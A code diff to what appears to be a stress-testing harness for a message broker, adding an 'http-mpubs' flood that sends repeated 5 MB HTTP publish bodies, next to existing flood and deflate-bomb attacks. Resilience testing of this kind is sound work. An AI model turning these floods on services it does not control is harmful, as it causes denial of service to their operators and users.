@@ -249,6 +249,20 @@ def http_flood(target: Target) -> Steps:
         yield sum(flood.step() for flood in floods)
 
 
+def http_mpubs(target: Target) -> Steps:
+    """MPUBs by HTTP of 5 MB, of 80 messages and of 40,000, one behind the other on two connections each."""
+    floods = [Flood(lambda: connect(target.http), mpub_by_http(size), 2) for size in (64_000, 124)]
+    while True:
+        yield sum(flood.step() for flood in floods)
+
+
+def mpub_by_http(size: int) -> bytes:
+    """As large as a body may be, of messages of that size."""
+    body = b"\n".join([b"x" * size] * (5_000_000 // (size + 1)))
+    head = f"POST /mpub?topic=by-http HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n"
+    return head.encode() + body
+
+
 def bombs(target: Target) -> Steps:
     """Deflate that unpacks to a thousand times as much: commands without effect."""
     identify = command(b"IDENTIFY", b'{"feature_negotiation": true, "deflate": true, "deflate_level": 6}')
@@ -288,6 +302,7 @@ ATTACKS: Mapping[str, Attack] = {
     "mpubs": mpubs,
     "large-mpubs": large_mpubs,
     "http": http_flood,
+    "http-mpubs": http_mpubs,
     "bombs": bombs,
     "handshakes": handshakes,
 }
